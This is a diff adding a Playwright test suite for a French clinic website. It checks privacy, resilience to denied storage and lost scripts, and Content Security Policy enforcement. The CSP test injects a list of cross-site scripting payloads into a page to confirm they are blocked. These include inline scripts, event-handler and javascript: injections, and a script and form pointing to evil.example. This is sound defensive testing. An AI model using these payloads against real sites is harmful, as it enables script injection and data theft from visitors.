@@ -1,0 +1,317 @@
+import type { BrowserContext, Page } from 'playwright/test';
+import { clinic } from '../content/data/clinic';
+import { doctors } from '../content/data/doctors';
+import { practitioners } from '../content/data/practitioners';
+import { services } from '../content/data/services';
+import { specialties } from '../content/data/specialties';
+import { pageRoutes, routes } from '../content/model/routes';
+import { specialtyPages } from '../content/model/specialty-pages';
+import { acts, reachProvider, startProvider } from './provider';
+import { expect, onPhone, test } from './visitor';
+
+const mapOrigin = new URL(clinic.mapEmbedUrl).origin;
+const [specialtyPage] = specialtyPages(specialties, services, clinic);
+const addresses = [
+  ...pageRoutes.map((name) => routes[name]()).filter((address) => address !== routes.home()),
+  routes.specialty(specialtyPage?.slug ?? ''),
+  routes.service('Pediatrie'),
+];
+
+/** What the policy forbade, as « directive: what ». */
+async function violationsOf(page: Page): Promise<string[]> {
+  const violations: string[] = [];
+  await page.exposeFunction('tellViolation', (violation: string) => violations.push(violation));
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
+      const { tellViolation } = globalThis as unknown as { tellViolation: (text: string) => void };
+      tellViolation(`${effectiveDirective}: ${blockedURI} ${sample}`);
+    });
+  });
+  return violations;
+}
+
+/** Requests that leave for other machines, by origin. */
+function foreignRequestsOf(page: Page): string[] {
+  const origins: string[] = [];
+  page.on('request', (request) => {
+    const { protocol, hostname, origin } = new URL(request.url());
+    if (protocol.startsWith('http') && hostname !== 'localhost') origins.push(origin);
+  });
+  return origins;
+}
+
+async function scrollThrough(page: Page): Promise<void> {
+  await page.evaluate(async () => {
+    for (let top = 0; top < document.documentElement.scrollHeight; top += innerHeight) {
+      scrollTo({ top, behavior: 'instant' });
+      await new Promise((resolve) => requestAnimationFrame(resolve));
+    }
+  });
+}
+
+async function openMenu(page: Page): Promise<void> {
+  if (onPhone(page)) await page.getByRole('button', { name: 'Menu' }).click();
+  const nav = page.getByRole('navigation', { name: 'Navigation principale' });
+  await expect(nav.getByRole('link', { name: 'Horaires' })).toBeVisible();
+  if (onPhone(page)) await page.keyboard.press('Escape');
+}
+
+async function openViewer(page: Page): Promise<void> {
+  const block = page.getByRole('group', { name: /: images$/ }).first();
+  await block.getByRole('button', { name: 'Image suivante' }).click();
+  await block.getByRole('link').last().click();
+  const viewer = page.getByRole('dialog');
+  await expect(viewer.getByText('2 / 2', { exact: true })).toBeVisible();
+  await page.keyboard.press('Escape');
+  await expect(viewer).toBeHidden();
+}
+
+async function unfoldServices(page: Page): Promise<void> {
+  const section = page.getByRole('region', { name: 'Nos services' });
+  await section.getByRole('button', { name: 'Voir plus' }).click();
+  await expect(section.getByRole('article')).toHaveCount(services.length);
+}
+
+const contact = (page: Page) => page.locator('#contact');
+const send = (page: Page) => contact(page).getByRole('button', { name: 'Envoyer le Message' });
+
+async function write(page: Page): Promise<void> {
+  await contact(page).scrollIntoViewIfNeeded();
+  await expect(page.locator('form')).toHaveAttribute('novalidate');
+  await contact(page).getByLabel('Nom').fill('Awa Traoré');
+  await contact(page).getByLabel('E-mail').fill('awa@exemple.com');
+  await contact(page).getByLabel('Message').fill('Bonjour');
+}
+
+/** Sends nothing, then something: both answers are said. */
+async function sendMessage(page: Page): Promise<void> {
+  await contact(page).scrollIntoViewIfNeeded();
+  await expect(page.locator('form')).toHaveAttribute('novalidate');
+  await send(page).click();
+  await expect(contact(page).getByRole('group', { name: 'Il y a un problème' })).toBeVisible();
+  await write(page);
+  await send(page).click();
+  await expect(contact(page).getByRole('status')).toContainText('Merci, votre message');
+}
+
+async function filterDoctors(page: Page): Promise<void> {
+  await page.getByRole('searchbox').fill(doctors[0].name);
+  await expect(page.getByRole('article')).toHaveCount(1);
+  await page.getByRole('button', { name: 'Effacer les filtres' }).click();
+  await expect(page.getByRole('article')).toHaveCount(doctors.length);
+}
+
+async function chooseSpecialty(page: Page): Promise<void> {
+  const { title } = specialties[25];
+  await page
+    .getByRole('navigation', { name: 'Spécialités' })
+    .getByRole('link', { name: title, exact: true })
+    .click();
+  await expect(page.getByRole('main').getByRole('heading', { level: 2 })).toHaveText([title]);
+}
+
+async function tryTheWizard(page: Page): Promise<void> {
+  const demo = page.getByRole('region', { name: 'Essayer la prise de rendez-vous' });
+  const step = demo.getByRole('heading', { level: 3 });
+  await demo.getByRole('button', { name: `Choisir ${practitioners[0].name}` }).click();
+  await expect(step).toHaveText('Choisissez un jour et une heure');
+  // Tomorrow has its samples whatever the hour is now; some of them are free.
+  await demo.getByRole('button', { name: 'Jour suivant' }).click();
+  await demo
+    .getByRole('list', { name: 'Créneaux' })
+    .getByRole('button', { name: /^\d+\sh/, disabled: false })
+    .first()
+    .click();
+  await expect(step).toHaveText('Vos informations');
+  for (const field of await demo.getByRole('textbox').all()) await field.fill('a@b.ml');
+  await demo.getByRole('checkbox').check();
+  await demo.getByRole('button', { name: 'Voir le récapitulatif' }).click();
+  await expect(step).toHaveText('Votre récapitulatif');
+}
+
+/** What stays on the visitor's device after a visit. */
+async function keptBy(page: Page, context: BrowserContext) {
+  const kept = await page.evaluate(async () => {
+    const names = await caches.keys();
+    const stored = await Promise.all(
+      names.map(async (name) => (await caches.open(name)).matchAll()),
+    );
+    return {
+      storage: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
+      cookie: document.cookie,
+      copies: stored.flat().map(({ url }) => url),
+    };
+  });
+  return { ...kept, cookies: await context.cookies() };
+}
+
+test('a whole visit breaks no rule, asks no one else, and leaves nothing of the visitor behind', async ({
+  page,
+  context,
+  allowedComplaints,
+}) => {
+  allowedComplaints.push(/status of 404/);
+  const violations = await violationsOf(page);
+  const foreign = foreignRequestsOf(page);
+  for (const address of [...addresses, '/nulle-part/']) {
+    await page.goto(address);
+    await openMenu(page);
+    if (address === routes.services()) await chooseSpecialty(page);
+    if (address === routes.doctors()) await filterDoctors(page);
+    if (address === routes.booking()) await tryTheWizard(page);
+    await scrollThrough(page);
+  }
+  await page.goto(routes.home());
+  await openMenu(page);
+  await unfoldServices(page);
+  await openViewer(page);
+  expect(foreign).toEqual([]);
+
+  const provider = await startProvider();
+  await reachProvider(page, provider);
+  await sendMessage(page);
+  await scrollThrough(page);
+  await page.close({ runBeforeUnload: false });
+  await provider.close();
+  expect(violations).toEqual([]);
+  expect([...new Set(foreign)].sort()).toEqual(
+    [new URL(clinic.formEndpoint).origin, mapOrigin].sort(),
+  );
+
+  const next = await context.newPage();
+  await next.goto(routes.hours());
+  const kept = await keptBy(next, context);
+  expect(kept).toMatchObject({ storage: [], cookie: '', cookies: [] });
+  // The offline copy holds this site's own files, as anybody gets them.
+  for (const copy of kept.copies) {
+    expect(new URL(copy).origin).toBe(new URL(next.url()).origin);
+    expect(copy).not.toMatch(/Awa|awa|Bonjour/);
+  }
+});
+
+test.describe('what somebody else put into a page', () => {
+  // React, where it wakes a page, sees that the page is not as it was made.
+  test.use({ allowedComplaints: [/Content Security Policy|Failed to load resource|React error/] });
+
+  const planted = [
+    '<script>hurt("script")</script>',
+    '<script src="https://evil.example/hurt.js"></script>',
+    '<img src="/nothing.png" onerror="hurt(\'onerror\')">',
+    '<svg onload="hurt(\'onload\')"></svg>',
+    '<iframe srcdoc="<script>parent.hurt(\'srcdoc\')</script>"></iframe>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<iframe src="javascript:parent.hurt(\'frame\')"></iframe>',
+    '<object data="/icon.svg"></object>',
+    '<base href="https://evil.example/">',
+    '<style>body { display: none }</style>',
+    '<p style="position: fixed; inset: 0">x</p>',
+    '<link rel="stylesheet" href="https://evil.example/a.css">',
+    '<img src="https://evil.example/pixel.png">',
+    '<a id="piege" href="javascript:hurt(\'link\')">Piège</a>',
+    '<form id="vol" action="https://evil.example/"><input name="a"></form>',
+  ];
+
+  test('does not run, load or send anything', async ({ page }) => {
+    const violations = await violationsOf(page);
+    const hurts: string[] = [];
+    await page.route('https://evil.example/**', (route) => {
+      hurts.push(route.request().url());
+      return route.abort();
+    });
+    await page.exposeFunction('hurt', (how: string) => hurts.push(how));
+    await page.route('**/horaire/', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace('</main>', `${planted.join('\n')}</main>`);
+      await route.fulfill({ response, body });
+    });
+    await page.goto(routes.hours());
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.evaluate((parts) => {
+      for (const part of parts) document.body.insertAdjacentHTML('beforeend', part);
+      const script = document.createElement('script');
+      script.textContent = 'hurt("appended")';
+      document.body.append(script);
+      document.querySelector<HTMLAnchorElement>('#piege')?.click();
+      document.querySelector<HTMLFormElement>('#vol')?.requestSubmit();
+    }, planted);
+    for (const directive of [
+      'script-src-elem',
+      'script-src-attr',
+      'style-src-elem',
+      'style-src-attr',
+      'img-src',
+      'frame-src',
+      'object-src',
+      'form-action',
+      'base-uri',
+    ])
+      await expect.poll(() => violations.join('\n')).toMatch(new RegExp(`^${directive}:`, 'm'));
+    // Asked without a locator, which would wait for the navigation that was refused.
+    const heading = () => document.querySelector('h1')?.checkVisibility();
+    expect(await page.evaluate(heading)).toBe(true);
+    expect(page.url()).toMatch(/\/horaire\/$/);
+    expect(hurts).toEqual([]);
+  });
+});
+
+test('with all storage denied, everything works', async ({ page }) => {
+  await page.addInitScript(() => {
+    const denied = () => {
+      throw new DOMException('Denied', 'SecurityError');
+    };
+    for (const name of ['localStorage', 'sessionStorage', 'indexedDB', 'caches'])
+      Object.defineProperty(globalThis, name, { get: denied, configurable: true });
+    Object.defineProperty(document, 'cookie', { get: () => '', set: () => undefined });
+    if ('serviceWorker' in navigator)
+      navigator.serviceWorker.register = () =>
+        Promise.reject(new DOMException('Denied', 'SecurityError'));
+  });
+  const provider = await startProvider();
+  await reachProvider(page, provider);
+  provider.plan(acts.accept);
+  await page.goto(routes.home());
+  await openMenu(page);
+  await unfoldServices(page);
+  await openViewer(page);
+  await sendMessage(page);
+  await page.goto(routes.doctors());
+  await filterDoctors(page);
+  await page.goto(routes.services());
+  await chooseSpecialty(page);
+  await page.goto(routes.booking());
+  await tryTheWizard(page);
+  await page.close();
+  await provider.close();
+});
+
+test.describe('when one script is lost', () => {
+  test.use({
+    allowedComplaints: [/Failed to load|ChunkLoadError|Loading chunk|ERR_FAILED|import/],
+  });
+
+  test('whichever it is, the page reads and the phone rings', async ({ page }) => {
+    // One page a width: each has scripts of its own, and as many visits as scripts.
+    const address = onPhone(page) ? routes.home() : routes.doctors();
+    const scripts = new Set<string>();
+    page.on('request', (request) => {
+      if (request.resourceType() === 'script') scripts.add(request.url());
+    });
+    await page.goto(address);
+    await scrollThrough(page);
+    await page.waitForLoadState('networkidle');
+    const all = [...scripts];
+    expect(all.length).toBeGreaterThan(0);
+    for (const lost of all) {
+      await page.route(lost, (route) => route.abort());
+      await page.goto(address);
+      await scrollThrough(page);
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      const call = page.getByRole('contentinfo').getByRole('link', { name: /^\+?[\d\s]+$/ });
+      await expect(call.first()).toHaveAttribute('href', `tel:${clinic.phones[0]}`);
+      await openMenu(page);
+      if (onPhone(page)) await unfoldServices(page);
+      else await expect(page.getByRole('article')).toHaveCount(doctors.length);
+      await page.unroute(lost);
+    }
+  });
+});
